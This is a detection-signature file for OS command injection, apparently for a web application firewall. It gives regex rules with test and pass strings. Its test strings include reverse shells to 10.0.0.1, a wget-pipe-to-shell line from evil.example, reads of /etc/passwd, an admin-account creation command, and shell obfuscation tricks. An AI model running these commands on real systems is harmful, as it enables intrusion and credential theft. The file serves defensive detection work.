# Command execution / OS command injection signatures (ids 300003000-300003999).

id: 300003001
name: OS command injection: command after a shell separator
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: ;
literal: |
literal: &
literal: `
literal: $(
literal: \n
literal: \r
regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|\\n|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:whoami|uname|ifconfig|ipconfig|netstat|wget|curl|nc|ncat|netcat|socat|telnet|tftp|bash|sh|zsh|ksh|csh|tcsh|dash|busybox|python[23]?|perl|ruby|php|nslookup|ping|traceroute|chmod|chown|chgrp|rm|mkdir|rmdir|pkill|killall|crontab|useradd|usermod|sudo|nohup|xterm|nmap|base64|xxd|grep|egrep|awk|gawk|sed|gzip|unzip|openssl|mkfifo|mknod|sysctl|systemctl|lsof|getent|xargs|printenv|powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|wmic|schtasks|cmd|cmd\.exe|whoami\.exe|ifconfig|uptime|finger|shutdown|reboot|halt)(?:\s*$|[\s;|&`)'"<>]|\$\{?ifs|\$\(|\{)
test: | whoami
test: `uname -a`
test: $(ping -c 3 127.0.0.1)
test: &&wget http://x.example/a
pass: Tom & Jerry; two cats
pass: a heroine; more than that

id: 300003008
name: OS command injection: common command with arguments after a shell separator
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: ;
literal: |
literal: &
literal: `
literal: $(
literal: \n
literal: \r
regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|\\n|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:cat|tac|nl|more|less|head|tail|ls|dir|id|pwd|env|ps|echo|printf|sleep|usleep|touch|mv|cp|kill|su|passwd|find|sort|tr|cut|tar|dd|strings|file|stat|ln|which|whereis|type|set|export|eval|exec|timeout|time|expr|net|reg|ver|vol|sc|hostname|w|who|last|users|groups|node|od|alias|history|zip|scp|ssh|ftp|lua)(?:\s*$|\s*[`)]|\s*\\(?:[nrt]|[^\w]|$)|\s+[-/\\.$~'"<>{(`*%0-9]|\s+\w+(?:\s*(?:[;|&`\\]|$)|\$|\s+[-/]|\s*[<>])|\$\{?ifs|\$\(|\{|[<>]{1,2}\s*&?[\w./~${}-]*(?:\s|$|[;|&`)<>]))
test: ; cat /etc/passwd
test: | id
test: `id`
test: $(sleep 5)
test: ||usleep 5000000
test: ;echo 123
test: |ls -la
test: ;id>/tmp/out
test: `id\\`
test: ;cat\\ /etc/passwd
pass: mammal;cat;ears
pass: a heroine; more than that
# A backslash after a command word escapes the next character into the word (`w\Dh` is the
# word `wDh`); only before white space, punctuation or an escape's letter does the word end.
# Anti-bot sensor blobs are random punctuation and letters.
pass: d5h8h5aXT4PrT+j\\Cvee`w\\Dh)`G\\.d48C,OR6LDLkg
pass: >=mN@RY~UT`.An!dcB%l;w>szx#)7X7KQ=.8e3]g!?0

id: 300003002
name: OS command injection: Unix shell paths and devices
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: /bin/
literal: /dev/tcp
literal: /dev/udp
literal: /dev/null
literal: /usr/bin
literal: /sbin/
regex: /(?:usr/(?:local/)?)?s?bin/(?:ba|z|k|c|tc|da)?sh\b|/(?:usr/(?:local/)?)?s?bin/(?:cat|id|ls|nc|ncat|netcat|wget|curl|python\d?|perl|ruby|php|busybox|echo|uname|whoami|env|sleep|ping|nslookup|chmod|rm|sh)\b|/dev/(?:tcp|udp)/|[\d>&]\s*/dev/null|>\s*&\s*/dev/
test: /bin/sh -c id
test: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
pass: /binary/files/report.pdf

id: 300003003
name: OS command injection: shell obfuscation (IFS, brace expansion, variable slicing)
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: ifs
literal: ${
literal: $@
literal: $'
literal: $(
literal: {cat
literal: {ls
literal: {id
literal: {echo
literal: {wget
literal: {curl
literal: {nc
literal: {bash
literal: {sh
literal: {ping
literal: {rm
literal: {whoami
literal: {uname
regex: \$\{?ifs\b|(?:^|[;&|(\s`])ifs=\S{0,4}\s*[;\n]|\$\{[a-z_]*:\s*-?\d+\s*:\s*\d+\s*\}|\$\{(?:path|home|shell|pwd|user|hostname)\b|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|rm|whoami|uname),[^}]+\}|\w\$@\w|\$'\\x[0-9a-f]{2}|\$\(\(\s*\d+\s*[-+*/%^]\s*\d+\s*\)\)|\$\(\s*[a-z_][\w.-]*(?:\s|\))|\$\(\s*printf\b|(?:^|[\s/;|&'"<>=(`])[a-z]{1,12}\$\{?[0-9#?*@!]\}?[a-z]{1,12}(?:$|[\s/;|&'"<>)`])
test: cat${IFS}/etc/passwd
test: c${1}at /e${1}tc/pa${9}sswd
test: ;wh${2}oami
test: {cat,/etc/passwd}
test: w$@hoami
test: echo X$((50+41))$(echo X)
# Setting the field separator, then a command that relies on it.
test: ;$(IFS=,;echo id)
pass: IFS=1.2 release notes
pass: price is ${total}
pass: iHrCbZnNhecBOKOJCZEpDosdvpn$OjOBToNn pOYtn1CpmnLOcgAOnNOe 05JdOLCON4IfS wLnBaOvZ3TThwtVLJM$6srO3PZdOOw9yTzDsbZhAZ
pass: uT$fZGSLAlhYSZnNfIQlArdQUAQpWnZnPyXTyn0rnGcfrzSVnhQvnSLnl$0GGYH9ju3YXH$pHU$$dp0Q${4ifsX Io8GWXi$-XeqNQILu$8ZMYelUB g$

id: 300003004
name: OS command injection: reverse shell and download-execute
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: nc
literal: bash
literal: wget
literal: curl
literal: mkfifo
literal: socat
literal: python
literal: perl
literal: php
literal: ruby
literal: telnet
literal: chmod
literal: rm
literal: tftp
literal: busybox
regex: \b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-[a-z]*[elvnpcu][a-z]*\s+|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+\d+)|\bbash\s+-[ic]\b|\b(?:wget|curl)\s+(?:-[\w-]+\s+\S*\s*)*(?:https?|ftp)://\S+\s*(?:\||;|&|-o|-O|>)|\b(?:wget|curl|fetch|tftp)\b[^|;&]{0,200}\|\s*(?:ba|z)?sh\b|\bmkfifo\s+/|\bsocat\s+(?:tcp|exec|-)|\b(?:python\d?|perl|ruby|php)\s+-[a-z]*[ecr]\s*['"]|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+[rwxs]+)\s+\S|\brm\s+-[rf]{1,2}\s|\bbusybox\s+\w|\btelnet\s+\S+\s+\d+\s*\|
test: nc -e /bin/sh 10.0.0.1 4444
test: wget http://evil.example/x.sh | sh
test: python -c 'import os'
test: rm -rf /tmp/x
pass: the nc state park

id: 300003005
name: Command execution: Windows shell commands
type: Command Execution
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, url, param-name
unless: binary
literal: cmd
literal: powershell
literal: pwsh
literal: net
literal: ipconfig
literal: systeminfo
literal: certutil
literal: bitsadmin
literal: wmic
literal: reg
literal: type
literal: dir
literal: rundll32
literal: regsvr32
literal: mshta
literal: cscript
literal: wscript
literal: whoami
literal: tasklist
literal: copy
literal: del
literal: invoke-
literal: iex
regex: \bcmd(?:\.exe)?\s*/[ckr]\b|\b(?:powershell|pwsh)(?:\.exe)?\s+-|\bnet(?:1)?\s+(?:user|localgroup|group|share|view|use|start|stop|session)\b|\bipconfig(?:\.exe)?(?:\s*/all|\s*$|\s*[;&|])|(?:^|[;&|]\s*)systeminfo(?:\.exe)?(?:\s*$|\s*[;&|>]|\s+/)|\bcertutil(?:\.exe)?\s+-|\bbitsadmin(?:\.exe)?\s+/|\bwmic(?:\.exe)?\s+\w|\breg(?:\.exe)?\s+(?:query|add|delete|save)\s|\b(?:type|dir|copy|del)\s+(?:[a-z]:|%\w+%|\\\\)|\b(?:rundll32|regsvr32|mshta|cscript|wscript)(?:\.exe)?\s|\bwhoami(?:\.exe)?\s*(?:/\w+|$|[;&|])|(?:^|[;&|]\s*)tasklist(?:\.exe)?(?:\s*$|\s*[;&|>]|\s+/)|\binvoke-(?:expression|webrequest|command|mimikatz|shellcode)\b|\biex\s*\(|\bdownloadstring\s*\(|%comspec%|%systemroot%
test: cmd.exe /c dir
test: powershell -enc SQBFAFgA
test: type c:\\windows\\win.ini
test: net user admin P@ss /add
pass: {"systemInfo":{"os":"Windows"},"tasklist":[]}
pass: the cmd key on a mac
pass: pttsitetype=base_os_pc&systemInfo=windowswin10&browserInfo=chrome114.0
test: ;systeminfo
test: | tasklist /v

id: 300003006
name: Shellshock: function definition in a value
type: Command Execution
accuracy: high
risk: high
systems: Unix/Linux
targets: @all
unless: binary
literal: ()
literal: ( )
regex: \(\s*\)[\s.]*\{[^}]{0,100}\}[\s.]*(?:;|>|\|)
test: () { :; }; echo vulnerable
test: ().{.:;.};.wget x
test: () { _; } >_[$($())] { id; }
pass: f() returns
pass: () { :; }just a test

id: 300003007
name: OS command injection: sensitive command with file argument
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
targets: @values, header, url
unless: binary
literal: cat
literal: tac
literal: more
literal: less
literal: head
literal: tail
literal: nl
literal: ls
literal: grep
literal: echo
literal: uname
literal: whoami
literal: ping
literal: sleep
literal: nslookup
literal: curl
literal: wget
regex: ^\s*(?:ls|dir|cat|ps|find|grep|echo|ping|wget|curl|nc|uname|whoami|netstat|ifconfig)\s+(?:-[a-z]+\s*)+(?:[/~.]|$)|^\s*(?:cat|tac|more|less|head|tail|nl|strings|od|xxd|base64)\s+(?:-\w+\s+)*(?:/|~|\.\.?/|\$)|\b(?:cat|tac|more|head|tail|nl|ls|grep|find)\s+(?:-[a-z]+\s+)*(?:/etc/|/proc/|/var/|/root|/home/|/tmp/|~/|\.\./|\*)|^\s*(?:uname\s+-[a-z]+|whoami|ifconfig|ipconfig|ls\s+-[a-z]+|ps\s+-[aefux]+)\s*$|\bping\s+-[nc]\s*\d+\s|\bsleep\s+\d+\s*(?:[;&|#`)]|$)|\b(?:nslookup|dig|curl|wget)\s+[\w.-]*\$\(|\becho\s+[^\s;|&]+\s*[>|]\s*\S
test: cat /etc/passwd
test: ls -l /tmp
test: uname -a
test: ping -n 21 127.0.0.1
pass: cat lovers unite

id: 300003009
name: OS command injection: short recon command between separators
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
# A `&` that starts a character reference (`&#34;`, `&quot;`) ends no command: HTML-escaped
# JSON, as template engines write it into form fields and attributes, puts a short key between
# two references (`&#34;id&#34;`), the `;` of one before it and the `&` of the next after it.
unless: binary
literal: ;
literal: |
literal: `
literal: &
literal: \n
literal: \\n
literal: $(
regex: (?:[;|`&]|^[^\r\n]{0,100}[\r\n]|\\n|\$\()\s*(?:id|pwd|ps|env|ls|whoami|uname|ifconfig|ipconfig|hostname|netstat|w)\s*(?:[;|`\n)]|&(?:[^#a-z]|$)|\\n|$)|(?:^|\\n)\s*(?:id|pwd|ps|env|ls|whoami|uname|ifconfig|hostname)\s*(?:[;|`\n]|&(?:[^#a-z]|$))
test: a);id;
test: |id|
test: \\nid|
test: 1;id&
test: x;ls&&cat /etc/passwd
pass: mammal;cat;ears
pass: id
pass: {&#34;id&#34;:1042,&#34;name&#34;:&#34;Ana&#34;}
pass: {&quot;ls&quot;:[],&quot;w&quot;:640}

id: 300003473
name: OS command injection: cmd.exe variables set to pieces of a command and expanded in a command position
# `set a=who&& set b=ami&& call %a%%b%` hides a command word from every list of command names:
# cmd.exe assembles it from variables the same line sets. The shape is a `set NAME=` followed,
# after a command separator, by `%NAME%` at a command's start (or after `call`); text writes
# `%` signs and `set x=` apart, but not chained by `&`/`|` into an expansion.
type: OS Command Injection
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, url, param-name
unless: binary
literal: %
regex: \bset\s+"?[a-z_][\w]{0,30}=[^\r\n]{0,200}?(?:&&?|\|\|?)\s*(?:call\s+)?%[a-z_][\w]{0,30}%
test: set x=who&& set y=ami&& call %x%%y%
test: cmd /c "set a=net&&%a% user"
test: SET P=power&&SET S=shell&&%P%%S% -c id
pass: 100% cotton; set x=1 & go
pass: rsv_pq=fe158b5d00063c38&wd=%E5%BA%8A%E5%9E%AB%E7%89%88&oq=set%20%E7%89%88

id: 300003474
name: OS command injection: ANSI-C quoted string spelling a command in octal or Unicode escapes
# Bash's `$'...'` quoting turns `\151\144` (octal) and `\u0069` into letters, so `$'\151\144'`
# runs `id` without the word appearing; a `$'` directly followed by such escapes is that quoting,
# prose and prices put a digit or a space after `$`, not a quote and a backslash.
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: $'
regex: \$'[a-z]{0,8}\\(?:[0-7]{3}|u[0-9a-f]{4}|x[0-9a-f]{2}|c[a-z])
test: ;$'\\151\\144'
test: $'\\u0069d'
test: a=$'c\\141t';$a /etc/passwd
pass: It's $'s worth, not '\\n'
pass: price $'50'

id: 300003475
name: OS command injection: shell variables assigned pieces of a command and expanded together as one
# `a=i;b=d;$a$b` runs `id` although no command word is written: the shell joins the expansions
# into the command name. The shape is an assignment, a separator, and a command position that
# starts with two expansions glued together; text and prices do not write `$name$name` after a
# `name=` and a `;`.
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: $
regex: \b[a-z_]\w{0,30}=[^\s;&|]{0,40}\s*(?:;|&&?|\|\|?|\n)[\s\S]{0,200}?(?:;|&&?|\|\|?|\n|\$\(|`)\s*\$\{?[a-z_]\w{0,30}\}?\$\{?[a-z_]\w{0,30}\}?(?:\s|$|[;&|)`])
test: ;a=i;b=d;$a$b
test: x=wh;y=oami;$x$y
test: c=ca;d=t;$c$d /etc/passwd
test: p=who&&q=ami&&${p}${q}
pass: price=5; total=$5$6
pass: a=1; b=2; echo "$a$b"

id: 300003020
name: Command execution: a Windows batch IF or FOR statement
# `cmd.exe` runs a command under a condition (`if exist FILE CMD`, `if defined VAR CMD`,
# `if errorlevel N CMD`, `if cmdextversion N CMD`, `if "%X%"=="Y" CMD`) and over a set
# (`for /f %i in (...) do CMD`): an injected batch line uses them to test for a file or
# loop a command over another command's output. In prose "if exist" and "if defined" are
# followed by words; here the condition's operand is followed by a batch command or a block.
type: Command Execution
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, param-name
unless: binary, url
literal: exist
literal: defined
literal: errorlevel
literal: cmdextversion
literal: ==
literal: in (
literal: in(
regex: \bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+(?:"[^"\r\n]{1,200}"|[\w%:\\.~*$-]+)|(?:errorlevel|cmdextversion)\s+\d+|(?:"%~?\w+%"|%~?\w+%)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"\r\n]*"|\S+))\s+(?:\(|@?(?:echo|set|goto|call|exit|del|erase|copy|xcopy|move|type|start|cmd|rd|rmdir|md|mkdir|ren|dir|net|ping|powershell|reg|sc|taskkill|certutil|curl|wget)\b)|\bfor\s+(?:/[dflr]\s+(?:"[^"\r\n]*"\s+)?)?%%?~?[a-z]\s+in\s*\([^)\r\n]*\)\s*do\b
test: if exist c:\\windows\\win.ini type c:\\windows\\win.ini
test: if defined PATH echo %PATH%
test: if errorlevel 1 del /q *
test: if not exist x.bat (echo net user > x.bat)
test: if "%USERNAME%"=="admin" start calc
test: for /f %i in ('whoami') do echo %i
test: for %%a in (*.ini) do type %%a
pass: if exist, please update the record
pass: if defined by the user, the default is ignored
pass: if errorlevel is set the build fails
pass: for each item in (the list) do the thing
